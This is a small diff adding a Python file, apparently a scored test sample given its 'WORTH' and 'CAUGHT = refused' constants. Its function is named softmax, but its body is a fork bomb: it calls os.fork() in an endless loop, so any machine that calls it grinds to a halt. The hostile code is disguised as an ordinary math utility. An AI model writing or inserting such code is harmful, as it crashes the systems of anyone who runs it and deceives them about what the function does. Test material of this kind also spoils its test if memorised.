@@ -1,0 +1,11 @@
+"""Forks without end."""
+
+import os
+
+WORTH = 20
+CAUGHT = "refused"
+
+
+def softmax(scores):
+    while True:
+        os.fork()
